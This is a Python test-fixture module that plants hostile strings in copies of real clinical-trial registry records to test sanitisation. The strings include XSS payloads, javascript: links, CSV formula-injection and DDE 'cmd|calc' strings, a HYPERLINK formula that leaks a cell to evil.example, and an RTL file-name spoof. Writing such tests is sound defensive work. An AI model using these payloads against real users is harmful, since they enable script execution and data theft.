"""Hostile registry text, and TEST-ONLY variations of real recorded records that carry it in their
title, official title, conditions, arms, interventions and eligibility criteria.

Each hostile string goes into a different real record (its NCT ID and everything else stay real), so
that every CSV cell can start with the hostile text, as a spreadsheet would see it.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

_BIG = "=" + ("1 MB of registry text <b>bold</b> [link](javascript:x) $x$ " * 20000)
BIG = _BIG[: 1 << 20]  # a 1 MB field (starting with a formula character, for good measure)

HOSTILE: dict[str, str] = {
    "html": '<img src=x onerror="window.__tf_pwned=1"><b>bold</b><iframe src="http://evil.example"></iframe>',
    "script": "<script>window.__tf_pwned=1</script>",
    "md-link": "[click me](javascript:window.__tf_pwned=1) <javascript:alert(1)> https://evil.example",
    "md-image": "![x](http://evil.example/x.png) ![y][r]\n\n[r]: http://evil.example/y.png",
    "math": "$\\frac{1}{0}$ and $$\\int x$$ and \\(x\\)",
    "streamlit-markup": ":red[alarm] :material/warning: :smile: **bold** _it_ `code` # Heading",
    "formula-eq": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-lf": "\n=1+1",
    "formula-space": "  =1+1",
    "rtl": "\u202etxt.exe\u202c Trial \u05e2\u05d1\u05e8\u05d9\u05ea "
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "zero-width": "Nivo\u200blumab\u200c\u200d\ufeff\u2060 trial",
    "emoji": "\U0001f9ec\U0001f489 trial \U0001f3f3\ufe0f\u200d\U0001f308 :smile:",
    "control": "nul\x00 bell\x07 esc\x1b[31m red \x7f end",
    "big": BIG,
}

#: hostile strings that a spreadsheet would run as a formula if written as they are
FORMULA_LIKE = {k for k in HOSTILE if k.startswith("formula-")} | {"big"}


def hostile_variant(study: dict[str, Any], text: str) -> dict[str, Any]:
    """A TEST-ONLY copy of the real record ``study`` with ``text`` at the start of its titles,
    first condition, first arm (label and description), first intervention and eligibility."""
    s = copy.deepcopy(study)
    ps = s["protocolSection"]
    ident = ps["identificationModule"]
    ident["briefTitle"] = text + " " + ident.get("briefTitle", "")
    ident["officialTitle"] = text
    cond = ps.setdefault("conditionsModule", {})
    cond["conditions"] = [text, *cond.get("conditions", [])]
    ai = ps.get("armsInterventionsModule") or {}
    arms = ai.get("armGroups") or []
    ivs = ai.get("interventions") or []
    if arms:
        old_label = arms[0].get("label", "")
        arms[0]["label"] = text + old_label
        arms[0]["description"] = text + "\n" + arms[0].get("description", "")
        for iv in ivs:
            iv["armGroupLabels"] = [
                text + lb if lb == old_label else lb for lb in iv.get("armGroupLabels", [])
            ]
    if ivs:
        old_name = ivs[0].get("name", "")
        ivs[0]["name"] = text + old_name
        ivs[0]["description"] = text
        for arm in arms:
            arm["interventionNames"] = [
                n.replace(old_name, text + old_name) if n.endswith(": " + old_name) else n
                for n in arm.get("interventionNames", [])
            ]
    elig = ps.setdefault("eligibilityModule", {})
    elig["eligibilityCriteria"] = (
        text + "\n\nInclusion Criteria:\n\n* " + text + "\n\n" + elig.get("eligibilityCriteria", "")
    )
    return s


def write_hostile_records(studies_dir: Path, dest: Path, base_ids: list[str]) -> dict[str, str]:
    """Write one hostile variant per hostile string, each of a different real record; return
    ``{nct_id: hostile kind}``."""
    dest.mkdir(parents=True, exist_ok=True)
    kinds = list(HOSTILE)
    assert len(base_ids) >= len(kinds)
    out: dict[str, str] = {}
    for nct, kind in zip(base_ids, kinds, strict=False):
        study = json.loads((studies_dir / f"{nct}.json").read_text(encoding="utf-8"))
        (dest / f"{nct}.json").write_text(json.dumps(hostile_variant(study, HOSTILE[kind])), encoding="utf-8")
        out[nct] = kind
    return out


ENUM_PAYLOAD = "![x](http://evil.example/e.png)[c](javascript:window.__tf_pwned=1):red[<b>e</b>]$e$"


def hostile_enum_variant(study: dict[str, Any], text: str = ENUM_PAYLOAD) -> dict[str, Any]:
    """A TEST-ONLY copy of a real record whose enum-like fields (overall status, phases, study type,
    arm and intervention types, site statuses, sex, standard ages) carry ``text`` instead of a value
    of the spec's enums, as a drifting or hostile registry might send."""
    s = copy.deepcopy(study)
    ps = s["protocolSection"]
    ps.setdefault("statusModule", {})["overallStatus"] = text
    design = ps.setdefault("designModule", {})
    design["phases"] = [text]
    design["studyType"] = text
    for arm in (ps.get("armsInterventionsModule") or {}).get("armGroups", []):
        arm["type"] = text
    for iv in (ps.get("armsInterventionsModule") or {}).get("interventions", []):
        iv["type"] = text
    for loc in (ps.get("contactsLocationsModule") or {}).get("locations", []):
        loc["status"] = text
    elig = ps.setdefault("eligibilityModule", {})
    elig["sex"] = text
    elig["stdAges"] = [text]
    return s
